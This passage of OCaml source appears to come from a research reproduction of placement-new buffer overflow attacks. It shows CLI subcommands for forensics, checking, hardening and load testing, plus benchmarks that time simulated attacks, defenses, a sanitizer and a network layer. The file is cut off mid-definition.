       ~doc:"Drive a serve-tcp server with a deterministic pipelined request              mix — over the paper catalogue or a generated corpus — and              report latency percentiles; exits non-zero on hung requests or              divergent replies.")
    Term.(const run $ host_t $ port_t $ n_t $ conns_t $ window_t $ chaos_t
          $ seed_t $ corpus_t $ sample_t $ trace_out_t)

(* ---- forensics: flight-recorder bundle + timeline reconstruction ---- *)

let forensics_cmd =
  let id_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let out_t =
    Arg.(value & opt string "pna-forensics" & info [ "o"; "out" ] ~docv:"DIR"
           ~doc:"Directory to write the forensic bundle under (one              subdirectory per scenario/config pair).")
  in
  let run id config out =
    match All.find id with
    | None ->
      Fmt.epr "unknown attack %s@." id;
      exit 1
    | Some a ->
      let r, _session, bundle = Driver.run_forensic ~config ~dir:out a in
      Fmt.pr "%a@." Flight.report bundle;
      Fmt.pr "bundle: %s@." bundle;
      ignore r
  in
  Cmd.v
    (Cmd.info "forensics"
       ~doc:"Run one scenario fully instrumented — PNASan oracle, Vmem write              trace, flight-recorder session — dump the forensic bundle              (timeline, events, writes, trace, shadow excerpt, verdict) and              print the reconstructed attack timeline.")
    Term.(const run $ id_t $ config_t $ out_t)

(* ---- top: poll a server's metrics over the wire ---- *)

let top_cmd =
  let port_t =
    Arg.(required & opt (some int) None & info [ "p"; "port" ] ~docv:"PORT"
           ~doc:"Server port to poll.")
  in
  let polls_t =
    Arg.(value & opt int 1 & info [ "n"; "polls" ] ~docv:"N"
           ~doc:"How many snapshots to take.")
  in
  let interval_t =
    Arg.(value & opt float 1.0 & info [ "interval" ] ~docv:"SECONDS"
           ~doc:"Delay between snapshots.")
  in
  let run host port polls interval =
    match Client.connect ~host ~port () with
    | Error f ->
      Fmt.epr "top: %s@." (Client.failure_label f);
      exit 1
    | Ok c ->
      Fun.protect
        ~finally:(fun () -> Client.close c)
        (fun () ->
          for i = 1 to polls do
            match Client.stats c i with
            | Ok payload ->
              if polls > 1 then Fmt.pr "-- poll %d/%d --@." i polls;
              Fmt.pr "%s@?" payload;
              if i < polls then Unix.sleepf interval
            | Error f ->
              Fmt.epr "top: %s@." (Client.failure_label f);
              exit 1
          done)
  in
  Cmd.v
    (Cmd.info "top"
       ~doc:"Poll a serve-tcp server's Prometheus snapshot over the wire              (Stats frames) — server and service-pool registries, no HTTP              endpoint needed.")
    Term.(const run $ host_t $ port_t $ polls_t $ interval_t)

(* ---- tracegate: E18 ---- *)

let tracegate_cmd =
  let requests_t =
    Arg.(value & opt int 96 & info [ "n"; "requests" ] ~docv:"N"
           ~doc:"Requests for the traced wire phase.")
  in
  let run requests =
    report E.pp_e18 (E.e18 ~requests ()) E.e18_ok
  in
  Cmd.v
    (Cmd.info "tracegate"
       ~doc:"E18: the observability gate — sampled wire traces merge into              connected span trees with zero orphans and zero ring drops,              every catalogue attack's forensic bundle names the same first              corrupting access as the live PNASan verdict, v1 frames still              decode, and disabled telemetry stays within 5%.")
    Term.(const run $ requests_t)

let compact_cmd =
  let path_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"MEMO-LOG")
  in
  let run path =
    match Memolog.compact path with
    | kept, dropped ->
      Fmt.pr "%s: kept %d record(s), dropped %d duplicate(s)@." path kept
        dropped
    | exception Sys_error m | exception Failure m ->
      Fmt.epr "compact: %s@." m;
      exit 1
  in
  Cmd.v
    (Cmd.info "compact"
       ~doc:"Offline-compact a memo log: drop duplicate records, keeping the              first per key (what the in-memory cache would have served),              atomically via write-aside and rename.")
    Term.(const run $ path_t)

let netgate_cmd =
  let requests_t =
    Arg.(value & opt (some int) None & info [ "n"; "requests" ] ~docv:"N"
           ~doc:"Load-phase request count. Default adapts to the host:              1M with 8+ cores, 100k otherwise; $(b,PNA_E16_N) overrides.")
  in
  let chaos_requests_t =
    Arg.(value & opt int 1_500 & info [ "chaos-requests" ] ~docv:"N"
           ~doc:"Chaos-soak request count.")
  in
  let fuzz_t =
    Arg.(value & opt int 120 & info [ "fuzz-frames" ] ~docv:"N"
           ~doc:"Malformed frames for the protocol-fuzz phase.")
  in
  let run requests chaos_requests fuzz_frames =
    report E.pp_e16
      (E.e16 ?requests ~chaos_requests ~fuzz_frames ())
      E.e16_ok
  in
  Cmd.v
    (Cmd.info "netgate"
       ~doc:"E16: the wire gate — load with latency percentiles, protocol              fuzz (every malformed frame classified, server survives), chaos              soak (verdicts identical to the in-process driver).")
    Term.(const run $ requests_t $ chaos_requests_t $ fuzz_t)

(* ---- check / exec: the toolchain on user-supplied source files ---- *)

let parse_file path =
  match Pna_minicpp.Parser.program (read_file path) with
  | prog -> prog
  | exception Pna_minicpp.Parser.Error { line; message } ->
    Fmt.epr "%s:%d: parse error: %s@." path line message;
    exit 1
  | exception Pna_minicpp.Lexer.Error { line; message } ->
    Fmt.epr "%s:%d: lex error: %s@." path line message;
    exit 1

let file_t = Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE.cpp")

let check_cmd =
  let run path =
    let prog = parse_file path in
    let r = Pna_analysis.Audit.analyze prog in
    let actionable = Pna_analysis.Audit.actionable r.Pna_analysis.Audit.placement in
    if actionable = [] then begin
      Fmt.pr "%s: no actionable placement-new findings@." path;
      exit 0
    end
    else begin
      List.iter (fun f -> Fmt.pr "%s: %a@." path Pna_analysis.Finding.pp f) actionable;
      exit 1
    end
  in
  Cmd.v
    (Cmd.info "check"
       ~doc:"Parse a MiniC++ source file and run the placement-new checker              (exit 1 when findings exist) — CI-gate style.")
    Term.(const run $ file_t)

let exec_cmd =
  let ints_t =
    Arg.(value & opt_all int [] & info [ "i"; "int" ] ~docv:"N"
           ~doc:"Attacker int input (repeatable).")
  in
  let strs_t =
    Arg.(value & opt_all string [] & info [ "s"; "str" ] ~docv:"S"
           ~doc:"Attacker string input (repeatable).")
  in
  let run path config ints strings verbose =
    let prog = parse_file path in
    let o =
      Pna_minicpp.Interp.execute ~config ~input_ints:ints ~input_strings:strings
        prog
    in
    Fmt.pr "%a@." Pna_minicpp.Outcome.pp o;
    if verbose then
      List.iter
        (fun e -> Fmt.pr "  event: %s@." (Pna_machine.Event.to_string e))
        o.Pna_minicpp.Outcome.events
  in
  Cmd.v
    (Cmd.info "exec"
       ~doc:"Parse a MiniC++ source file and run it on the simulated machine.")
    Term.(const run $ file_t $ config_t $ ints_t $ strs_t $ verbose_t)

(* ---- harden ---- *)

let harden_cmd =
  let id_or_file_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID|FILE.cpp")
  in
  let run target =
    let prog =
      if Sys.file_exists target then parse_file target
      else
        match All.find target with
        | Some a -> a.Catalog.program
        | None ->
          Fmt.epr "%s: neither a file nor a known attack id@." target;
          exit 1
    in
    let repaired = Pna_analysis.Hardener.harden prog in
    Fmt.pr "// auto-hardened: %d placement site(s) repaired (§5.1 / §7)@.@.%a@."
      (Pna_analysis.Hardener.count_repairs prog)
      Pna_minicpp.Cpp_print.pp_program repaired;
    let residual = Pna_analysis.Placement_checker.actionable repaired in
    if residual <> [] then begin
      Fmt.epr "// residual findings the repair cannot address:@.";
      List.iter (fun f -> Fmt.epr "//   %a@." Pna_analysis.Finding.pp f) residual
    end
  in
  Cmd.v
    (Cmd.info "harden"
       ~doc:"Automatically repair a program's placement discipline and print              the fixed source (the paper's §7 tool).")
    Term.(const run $ id_or_file_t)


let () =
  let doc = "reproduction of `A New Class of Buffer Overflow Attacks' (ICDCS 2011)" in
  let info = Cmd.info "pna_cli" ~doc in
  exit
    (Cmd.eval
       (Cmd.group info
          [
            list_cmd;
            run_cmd;
            sanitize_cmd;
            matrix_cmd;
            stackguard_cmd;
            leak_cmd;
            dos_cmd;
            memleak_cmd;
            audit_cmd;
            defmatrix_cmd;
            overhead_cmd;
            chaos_cmd;
            randtest_cmd;
            repair_cmd;
            generate_cmd;
            fuzz_cmd;
            corpus_cmd;
            gengate_cmd;
            batch_cmd;
            serve_cmd;
            throughput_cmd;
            layout_cmd;
            inspect_cmd;
            source_cmd;
            check_cmd;
            exec_cmd;
            coverage_cmd;
            trace_cmd;
            stats_cmd;
            telemetry_cmd;
            oracle_cmd;
            scaling_cmd;
            serve_tcp_cmd;
            loadgen_cmd;
            compact_cmd;
            netgate_cmd;
            forensics_cmd;
            top_cmd;
            tracegate_cmd;
            vmgate_cmd;
            cowgate_cmd;
            harden_cmd;
            all_cmd;
          ]))
