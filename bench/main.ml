(** Benchmark harness: one Bechamel group per experiment of DESIGN.md plus
    substrate micro-benchmarks. Prints one OLS-estimated time per bench
    and writes each group's estimates to [BENCH_<group>.json].

    Groups are selected with a comma-separated argument:
    {[ bench/main.exe e8,service ]}
    No argument runs everything.

    The E8 group is the quantitative half of the defense-overhead
    experiment: the same benign pool-server workload timed under every
    defense configuration. The service group is the quantitative half of
    E12: batch throughput at 1/2/4 domains plus the amortisation ladder
    (fresh load, snapshot rewind, memo hit). *)

open Bechamel
open Toolkit
module Config = Pna_defense.Config
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Catalog = Pna_attacks.Catalog

let stage = Staged.stage

(* ------------------------------------------------------------------ *)
(* substrate micro-benchmarks                                           *)

let vmem_for_micro =
  let open Pna_vmem in
  let m = Vmem.create () in
  let _ = Vmem.map m ~kind:Segment.Data ~base:0x1000 ~size:0x1000 ~perm:Perm.rw in
  m

let micro_group =
  [
    Test.make ~name:"vmem/write_u32" (stage (fun () ->
        Pna_vmem.Vmem.write_u32 vmem_for_micro 0x1100 0xdeadbeef));
    Test.make ~name:"vmem/read_u32" (stage (fun () ->
        ignore (Pna_vmem.Vmem.read_u32 vmem_for_micro 0x1100)));
    Test.make ~name:"vmem/blit_64B" (stage (fun () ->
        Pna_vmem.Vmem.blit vmem_for_micro ~src:0x1100 ~dst:0x1400 ~len:64));
    Test.make ~name:"layout/compute_schema" (stage (fun () ->
        let env = Pna_layout.Layout.create_env () in
        List.iter (Pna_layout.Layout.define env)
          (Pna_attacks.Schema.base_classes @ Pna_attacks.Schema.virtual_classes);
        ignore (Pna_layout.Layout.of_class env "GradStudentV")));
    Test.make ~name:"heap/malloc_free_pair" (stage (
        let open Pna_vmem in
        let m = Vmem.create () in
        let _ = Vmem.map m ~kind:Segment.Heap ~base:0x10000 ~size:0x10000 ~perm:Perm.rw in
        let h = Pna_machine.Heap.create m ~base:0x10000 ~size:0x10000 in
        fun () ->
          match Pna_machine.Heap.malloc h 32 with
          | Some a -> Pna_machine.Heap.free h a
          | None -> assert false));
    Test.make ~name:"machine/load_image" (stage (fun () ->
        ignore (Interp.load ~config:Config.none Pna_attacks.L11_data_bss.attack.Catalog.program)));
    Test.make ~name:"interp/pool_server_100" (stage (fun () ->
        ignore (Pna.Workloads.run Pna.Workloads.pool_server ~n:100)));
    Test.make ~name:"interp/heap_churn_100" (stage (fun () ->
        ignore (Pna.Workloads.run Pna.Workloads.heap_churn ~n:100)));
  ]

(* ------------------------------------------------------------------ *)
(* vmem fast path vs per-byte reference path

   Each stage runs a fixed batch of operations so the per-call harness
   scaffolding (~hundreds of ns on small hosts) does not swamp the
   ~10 ns accessors being measured; divide by the batch size in the name
   for a per-op figure. The *_bytepath twins run the identical batch on
   a space with a no-op observer armed, which forces every access down
   the per-byte reference path — the before/after of the fast path. *)

let mk_bench_vmem () =
  let open Pna_vmem in
  let m = Vmem.create () in
  let _ = Vmem.map m ~kind:Segment.Data ~base:0x1000 ~size:0x1000 ~perm:Perm.rw in
  m

let mk_bytepath_vmem () =
  let m = mk_bench_vmem () in
  Pna_vmem.Vmem.set_observer m (Some (fun ~access:_ ~addr:_ ~taint:_ -> ()));
  m

let u32_mix m () =
  let open Pna_vmem in
  let acc = ref 0 in
  for i = 0 to 511 do
    let addr = 0x1000 + (i land 0xff) * 4 in
    Vmem.write_u32 m addr i;
    acc := !acc + Vmem.read_u32 m addr
  done;
  ignore (Sys.opaque_identity !acc)

let blit_batch m () =
  for _ = 1 to 64 do
    Pna_vmem.Vmem.blit m ~src:0x1000 ~dst:0x1800 ~len:64
  done

let vmem_group =
  let open Pna_vmem in
  let fast = mk_bench_vmem () in
  let byte = mk_bytepath_vmem () in
  let cstr = mk_bench_vmem () in
  Vmem.write_bytes cstr 0x1000 (String.make 63 'x' ^ "\000");
  let payload = String.make 256 'p' in
  [
    Test.make ~name:"vmem/u32_mix_1k" (stage (u32_mix fast));
    Test.make ~name:"vmem/u32_mix_1k_bytepath" (stage (u32_mix byte));
    Test.make ~name:"vmem/blit_64B_x64" (stage (blit_batch fast));
    Test.make ~name:"vmem/blit_64B_x64_bytepath" (stage (blit_batch byte));
    Test.make ~name:"vmem/write_bytes_256" (stage (fun () ->
        Vmem.write_bytes fast 0x1400 payload));
    Test.make ~name:"vmem/read_bytes_256" (stage (fun () ->
        ignore (Vmem.read_bytes fast 0x1400 256)));
    Test.make ~name:"vmem/read_cstring_64" (stage (fun () ->
        ignore (Vmem.read_cstring cstr 0x1000)));
    Test.make ~name:"vmem/fill_256" (stage (fun () ->
        Vmem.fill fast ~dst:0x1400 ~len:256 0x2a));
    Test.make ~name:"vmem/tainted_bytes_4k" (stage (fun () ->
        ignore (Vmem.tainted_bytes fast 0x1000 0x1000)));
  ]

(* ------------------------------------------------------------------ *)
(* experiment benches                                                   *)

(* attacks that complete in microseconds; the deliberately-slow DoS/OOM
   runs are benched separately with their own budgets *)
let fast_attacks =
  List.filter
    (fun a -> a.Catalog.id <> "L15-dos" && a.Catalog.id <> "L23-oom")
    All.attacks

let bench_attack (a : Catalog.t) =
  Test.make ~name:("e1/" ^ a.Catalog.id) (stage (fun () ->
      ignore (Driver.run ~config:Config.none a)))

let e1_group = List.map bench_attack fast_attacks

let e2_e3_group =
  [
    Test.make ~name:"e2/naive_vs_stackguard" (stage (fun () ->
        ignore (Driver.run ~config:Config.stackguard Pna_attacks.L13_stack_ret.attack)));
    Test.make ~name:"e3/bypass_vs_stackguard" (stage (fun () ->
        ignore (Driver.run ~config:Config.stackguard Pna_attacks.L13_stack_ret.bypass)));
  ]

let e4_group =
  [
    Test.make ~name:"e4/leak_array" (stage (fun () ->
        ignore (Driver.run Pna_attacks.L21_leak_array.attack)));
    Test.make ~name:"e4/leak_object" (stage (fun () ->
        ignore (Driver.run Pna_attacks.L22_leak_object.attack)));
  ]

(* E5: the DoS curve — time per request as the forced bound grows *)
let e5_group =
  List.map
    (fun n ->
      Test.make ~name:(Fmt.str "e5/dos_n_%d" n) (stage (fun () ->
          ignore
            (Interp.execute ~config:Config.none ~max_steps:10_000_000
               ~input_ints:[ n ] Pna_attacks.L15_stack_var.program_))))
    [ 5; 100; 10_000 ]

let e6_group =
  List.map
    (fun iters ->
      Test.make ~name:(Fmt.str "e6/memleak_%d_iters" iters) (stage (fun () ->
          let prog = Pna_attacks.L23_memleak.mk_program ~checked:false in
          let m = Interp.load ~config:Config.none prog in
          Machine.set_input ~ints:[ iters ] ~strings:[] m;
          ignore (Interp.run m prog ~entry:"main"))))
    [ 50; 200 ]

let e7_group =
  [
    Test.make ~name:"e7/placement_checker_all" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore (Pna_analysis.Placement_checker.analyze a.Catalog.program))
          All.attacks));
    Test.make ~name:"e7/legacy_checker_all" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore (Pna_analysis.Legacy_checker.analyze a.Catalog.program))
          All.attacks));
  ]

(* E8: the benign workload under each defense — the overhead table *)
let e8_group =
  List.map
    (fun config ->
      Test.make
        ~name:(Fmt.str "e8/pool_server_500_%s" config.Config.name)
        (stage (fun () -> ignore (Pna.Workloads.run ~config Pna.Workloads.pool_server ~n:500))))
    (Config.all @ [ Config.pool_discipline ])

(* syntax toolchain: print and parse the whole catalogue *)
let syntax_group =
  [
    Test.make ~name:"syntax/print_catalogue" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore (Pna_minicpp.Cpp_print.program_to_string a.Catalog.program))
          All.attacks));
    Test.make ~name:"syntax/parse_catalogue" (stage (
        let sources =
          List.map
            (fun (a : Catalog.t) ->
              Pna_minicpp.Cpp_print.program_to_string a.Catalog.program)
            All.attacks
        in
        fun () ->
          List.iter (fun src -> ignore (Pna_minicpp.Parser.program src)) sources));
  ]

(* interprocedural vs intraprocedural analysis cost *)
let analysis_mode_group =
  [
    Test.make ~name:"e7/intraproc_all" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore (Pna_analysis.Placement_checker.analyze a.Catalog.program))
          All.attacks));
    Test.make ~name:"e7/interproc_all" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore
              (Pna_analysis.Placement_checker.analyze ~interproc:true
                 a.Catalog.program))
          All.attacks));
  ]

(* wire format encode/decode round *)
let serial_group =
  [
    Test.make ~name:"serial/encode_grad" (stage (fun () ->
        ignore
          (Pna_serial.Wire.encode
             (Pna_serial.Wire.grad_student ~courses:[ 1; 2; 3; 4 ] ()))));
    Test.make ~name:"serial/serve_datagram" (stage (
        let payload = Pna_serial.Wire.encode (Pna_serial.Wire.student ()) in
        fun () ->
          ignore (Driver.run ~config:Config.none Pna_attacks.Ser_remote_object.grad_object |> ignore);
          ignore payload));
  ]

(* E9: supervision overhead — the same benign workload raw, supervised
   under an empty plan (pure harness cost: hooks armed, nothing fires)
   and supervised under a transiently faulty plan (one retry) *)
let chaos_group =
  let open Pna_chaos in
  [
    Test.make ~name:"e9/pool_server_64_raw" (stage (fun () ->
        ignore (Driver.run Pna.Experiments.benign_pool)));
    Test.make ~name:"e9/pool_server_64_supervised_clean" (stage (fun () ->
        ignore (Driver.supervise ~plan:(Plan.empty 0) Pna.Experiments.benign_pool)));
    Test.make ~name:"e9/pool_server_64_supervised_faulty" (stage (
        let plan =
          { Plan.seed = 0; faults = [ Plan.Raise_fault { at_step = 100 } ] }
        in
        fun () -> ignore (Driver.supervise ~plan Pna.Experiments.benign_pool)));
  ]

(* E11: hardening the whole catalogue *)
let e11_group =
  [
    Test.make ~name:"e11/harden_catalogue" (stage (fun () ->
        List.iter
          (fun (a : Catalog.t) ->
            ignore (Pna_analysis.Hardener.harden a.Catalog.program))
          All.attacks));
  ]

(* ablation: image load vs full attack run — separates setup cost from
   interpretation cost *)
let ablation_group =
  [
    Test.make ~name:"ablation/l13_load_only" (stage (fun () ->
        ignore (Interp.load ~config:Config.none (Pna_attacks.L13_stack_ret.mk_program ~checked:false))));
    Test.make ~name:"ablation/l13_full_run" (stage (fun () ->
        ignore (Driver.run Pna_attacks.L13_stack_ret.attack)));
  ]

(* E12: the scenario service — batch throughput at each domain count and
   the amortisation ladder a request descends: fresh image load, snapshot
   rewind of a prepared machine, memo-cache hit *)
module Service = Pna_service.Service

(* batch_32 is kept for continuity, but 32 jobs finish in ~10ms — too
   small to amortize domain spawn and GC rendezvous, which is why it
   historically showed anti-scaling. The 512/4096 rows are the realistic
   campaign shape (an E8/E17 sweep is thousands of scenarios) and the
   ones the scaling acceptance gates on. *)
let service_stream_of size =
  List.init size (fun _ ->
      Service.job ~config:Config.none ~max_steps:60_000
        Pna.Experiments.benign_pool)

let service_stream = service_stream_of 32

let bench_service_batch ~size stream n =
  Test.make
    ~name:(Fmt.str "service/batch_%d_benign_%dd" size n)
    (stage (fun () ->
         let svc = Service.create ~jobs:n ~memo:false () in
         ignore (Service.run_batch svc stream);
         Service.shutdown svc))

let service_group =
  (let s32 = service_stream in
   let s512 = service_stream_of 512 in
   let s4096 = service_stream_of 4096 in
   [
     bench_service_batch ~size:32 s32 1;
     bench_service_batch ~size:32 s32 2;
     bench_service_batch ~size:32 s32 4;
     bench_service_batch ~size:512 s512 1;
     bench_service_batch ~size:512 s512 2;
     bench_service_batch ~size:512 s512 4;
     bench_service_batch ~size:4096 s4096 1;
     bench_service_batch ~size:4096 s4096 4;
   ])
  @ [
      Test.make ~name:"service/fresh_load_run" (stage (fun () ->
          ignore (Driver.run Pna.Experiments.benign_pool)));
      Test.make ~name:"service/snapshot_rewind" (stage (
          let p = Driver.prepare Pna.Experiments.benign_pool in
          fun () -> ignore (Driver.reset p)));
      Test.make ~name:"service/run_prepared" (stage (
          let p = Driver.prepare Pna.Experiments.benign_pool in
          fun () -> ignore (Driver.run_prepared p)));
      Test.make ~name:"service/memo_hit" (stage (
          let svc = Service.create ~jobs:1 () in
          let j = Service.job ~config:Config.none Pna.Experiments.benign_pool in
          let (_ : Service.reply) = Service.exec svc j in
          fun () -> ignore (Service.exec svc j)));
    ]

(* sanitizer: what the PNASan oracle costs — the prepared driver path
   with no oracle (the production configuration E14 gates at 5% over the
   inline baseline), the same path with the shadow map attached, a raw
   attach (shadow build over a loaded image), and the quarantining
   allocator vs the plain free path. *)
let sanitizer_group =
  let module San = Pna_sanitizer.Sanitizer in
  [
    Test.make ~name:"sanitizer/run_prepared_off" (stage (
        let p = Driver.prepare Pna.Experiments.benign_pool in
        fun () -> ignore (Driver.run_prepared p)));
    Test.make ~name:"sanitizer/run_prepared_on" (stage (
        let p = Driver.prepare ~sanitize:true Pna.Experiments.benign_pool in
        fun () -> ignore (Driver.run_prepared p)));
    Test.make ~name:"sanitizer/attack_run_on" (stage (fun () ->
        ignore (Driver.run ~sanitize:true Pna_attacks.L13_stack_ret.attack)));
    Test.make ~name:"sanitizer/attach_shadow" (stage (
        let m = Interp.load ~config:Config.none Pna.Workloads.pool_server in
        fun () ->
          let san = San.attach (Machine.mem m) in
          San.detach san));
    Test.make ~name:"sanitizer/quarantined_malloc_free" (stage (
        let open Pna_vmem in
        let m = Vmem.create () in
        let _ = Vmem.map m ~kind:Segment.Heap ~base:0x10000 ~size:0x10000 ~perm:Perm.rw in
        let h = Pna_machine.Heap.create m ~base:0x10000 ~size:0x10000 in
        let san = San.attach m in
        Pna_machine.Heap.set_sanitizer h (Some san);
        fun () ->
          match Pna_machine.Heap.malloc h 32 with
          | Some a -> Pna_machine.Heap.free h a
          | None -> assert false));
  ]

(* telemetry: the cost of the instrumentation layer itself — the
   disabled span gate (what every production run pays), the enabled
   span, registry increments/observations, and the exporters' JSON
   encoding. Spans land in this domain's ring buffer; the ring
   overwrites, so steady-state cost is what is measured. *)
let telemetry_group =
  let module Tel = Pna_telemetry.Telemetry in
  let module Trace = Pna_telemetry.Trace in
  let module Metrics = Pna_telemetry.Metrics in
  let reg = Metrics.create () in
  let ctr = Metrics.counter reg "bench_counter_total" in
  let hist = Metrics.histogram reg "bench_hist_us" in
  let ev =
    Pna_machine.Event.Placement
      { site = "bench"; addr = 0x1000; size = 64; arena = Some 128 }
  in
  [
    Test.make ~name:"telemetry/span_disabled" (stage (fun () ->
        Tel.disable ();
        Trace.with_span "bench" (fun () -> ())));
    Test.make ~name:"telemetry/span_enabled" (stage (fun () ->
        Tel.enable ();
        Trace.with_span "bench" (fun () -> ())));
    Test.make ~name:"telemetry/instant_enabled" (stage (fun () ->
        Tel.enable ();
        Trace.instant "bench"));
    Test.make ~name:"telemetry/span_ctx_enabled" (stage (
        let ctx = Some (Trace.new_ctx ()) in
        fun () ->
          Tel.enable ();
          Trace.with_ctx ctx (fun () ->
              Trace.with_span "bench" (fun () -> ()))));
    Test.make ~name:"telemetry/emit_retroactive" (stage (fun () ->
        Tel.enable ();
        Trace.emit ~name:"bench" ~ts_us:1.0 ~dur_us:1.0 ~trace:(1, 2, 3) ()));
    Test.make ~name:"telemetry/counter_incr" (stage (fun () -> Metrics.incr ctr));
    Test.make ~name:"telemetry/histogram_observe" (stage (fun () ->
        Metrics.observe hist 123.4));
    Test.make ~name:"telemetry/event_to_json" (stage (fun () ->
        ignore
          (Pna_telemetry.Jsonx.to_string (Pna_machine.Event.to_json ev))));
    Test.make ~name:"telemetry/export_chrome_ring" (stage (fun () ->
        Tel.enable ();
        ignore (Fmt.str "%t" (fun ppf -> Trace.export_chrome ppf))));
  ]

(* net: the wire layer's own cost — frame encode/decode (the per-request
   protocol tax), CRC32 over a frame-sized buffer, and the memo-entry
   codec the persistent log pays per record. The end-to-end latency rows
   (net/loadgen_p50 and friends) are not Bechamel estimates: they come
   from a real server + load generator on loopback, appended after the
   group runs. *)
let net_group =
  let module Frame = Pna_net.Frame in
  let req =
    Frame.Request
      {
        Frame.rq_corr = 42;
        rq_attack = "L13-stack-ret";
        rq_config = "stackguard";
        rq_chaos_seed = None;
        rq_max_steps = Some 60_000;
        rq_sanitize = false;
        rq_engine = `Interp;
        rq_trace = None;
      }
  in
  let encoded = Frame.encode req in
  let traced_req =
    match req with
    | Frame.Request r -> Frame.Request { r with rq_trace = Some (0xabc, 0xdef) }
    | m -> m
  in
  let traced_encoded = Frame.encode traced_req in
  let entry_bytes =
    Frame.encode_memo_entry
      {
        Service.me_attack = "L13-stack-ret";
        me_config = "stackguard";
        me_chaos_seed = None;
        me_input_hash = 0x1234;
        me_engine = "interp";
        me_sanitize = false;
        me_reply =
          {
            Service.r_id = "L13-stack-ret";
            r_config = "stackguard";
            r_chaos_seed = None;
            r_status = "exited 0";
            r_success = false;
            r_detail = "canary intact";
            r_attempts = 1;
            r_cached = false;
            r_violations = 0;
          };
      }
  in
  [
    Test.make ~name:"net/frame_encode_request" (stage (fun () ->
        ignore (Frame.encode req)));
    Test.make ~name:"net/frame_decode_request" (stage (fun () ->
        ignore (Frame.decode encoded)));
    Test.make ~name:"net/frame_encode_request_traced" (stage (fun () ->
        ignore (Frame.encode traced_req)));
    Test.make ~name:"net/frame_decode_request_traced" (stage (fun () ->
        ignore (Frame.decode traced_encoded)));
    Test.make ~name:"net/crc32_64B" (stage (fun () ->
        ignore (Pna_net.Crc32.string encoded)));
    Test.make ~name:"net/memo_entry_decode" (stage (fun () ->
        ignore (Frame.decode_memo_entry entry_bytes)));
  ]

(* End-to-end request latency over loopback: serve a warm (memoized)
   stream so the rows measure the wire + scheduling path, not scenario
   compute. Reported in ns to match every other row. *)
let net_loadgen_rows () =
  let module Server = Pna_net.Server in
  let module Loadgen = Pna_net.Loadgen in
  let svc = Service.create ~jobs:2 () in
  let server = Server.start svc in
  let port = Server.port server in
  let run n =
    (* one fixed seed: the spec stream is seed-derived, so the warmup
       pass fills the memo with exactly the keys the measured pass asks *)
    Loadgen.run ~conns:2 ~window:16 ~timeout_s:30. ~distinct:16
      ~host:"127.0.0.1" ~port ~n ~seed:1 ()
  in
  let (_ : Loadgen.result) = run 64 in
  let r = run 2_000 in
  Server.stop server;
  Service.shutdown svc;
  let ns us = Some (us *. 1000.) in
  [
    ("net/loadgen_p50", ns r.Loadgen.lg_p50_us);
    ("net/loadgen_p99", ns r.Loadgen.lg_p99_us);
    ("net/loadgen_p99_9", ns r.Loadgen.lg_p999_us);
    ("net/loadgen_mean", ns r.Loadgen.lg_mean_us);
  ]

(* gen: the generative catalogue's cost model — grammar drawing, genome
   codec, program synthesis and one full differential-oracle pass. The
   campaign row (appended after the group, like net's latency rows) is
   the figure that matters operationally: amortized wall-clock per
   scenario for a real campaign, which bounds how many scenarios a CI
   fuzz-smoke budget buys. *)
let gen_group =
  let module Genome = Pna_gen.Genome in
  let module GBuild = Pna_gen.Build in
  let module GOracle = Pna_gen.Oracle in
  let module GCorpus = Pna_gen.Corpus in
  let fixed = Genome.generate (Pna_rand.Rand.create 0xbe9c4) in
  let encoded = Genome.encode fixed in
  let small_corpus =
    let rng = Pna_rand.Rand.create 0xbe9c5 in
    List.init 100 (fun _ -> Genome.generate rng)
  in
  let corpus_bytes = GCorpus.to_string small_corpus in
  [
    Test.make ~name:"gen/generate_100" (stage (
        let rng = Pna_rand.Rand.create 0x5eed in
        fun () ->
          for _ = 1 to 100 do
            ignore (Genome.generate rng)
          done));
    Test.make ~name:"gen/genome_codec_roundtrip" (stage (fun () ->
        ignore (Genome.decode (Genome.encode fixed))));
    Test.make ~name:"gen/genome_decode" (stage (fun () ->
        ignore (Genome.decode encoded)));
    Test.make ~name:"gen/build_program" (stage (fun () ->
        ignore (GBuild.program_of fixed)));
    Test.make ~name:"gen/oracle_run" (stage (fun () ->
        ignore (GOracle.run ~max_steps:20_000 fixed)));
    Test.make ~name:"gen/corpus_roundtrip_100" (stage (fun () ->
        ignore (GCorpus.of_string corpus_bytes)));
  ]

(* Amortized campaign throughput: everything a scenario costs end to end
   (generation, ~11 oracle executions, checker, coverage, filtering),
   reported as ns per scenario so it diffs like every other row. *)
let gen_campaign_rows () =
  let module Fuzz = Pna_gen.Fuzz in
  let t0 = Unix.gettimeofday () in
  let s = Fuzz.campaign ~n:200 ~seed:1 () in
  let dt = Unix.gettimeofday () -. t0 in
  [
    ( "gen/campaign_per_scenario",
      Some (dt *. 1e9 /. float_of_int s.Fuzz.f_generated) );
  ]

(* ------------------------------------------------------------------ *)
(* interp: the execution engines (E19). The same prepared scenario
   rewound and re-run on the tree-walking interpreter and on the
   compiled bytecode VM — the arith pair is the committed evidence for
   the E19 >= 3x floor (pure dispatch, interpreter-bound), the copy-loop
   pair shows the honest ratio on a real catalogue attack whose runtime
   is dominated by shared machine simulation. The compile rows price the
   one-off translation a prepared scenario amortizes away. *)

let interp_group =
  let arith = Pna_gen.Vmgate.bench_scenario ~iters:30_000 in
  let copy = Pna_attacks.L06_copy_loop.attack in
  let prep engine a = Driver.prepare ~config:Config.none ~engine a in
  let arith_i = prep `Interp arith and arith_b = prep `Bytecode arith in
  let copy_i = prep `Interp copy and copy_b = prep `Bytecode copy in
  [
    Test.make ~name:"interp/arith30k_tree_walk" (stage (fun () ->
        ignore (Driver.run_prepared ~max_steps:5_000_000 arith_i)));
    Test.make ~name:"interp/arith30k_bytecode" (stage (fun () ->
        ignore (Driver.run_prepared ~max_steps:5_000_000 arith_b)));
    Test.make ~name:"interp/copy_loop_tree_walk" (stage (fun () ->
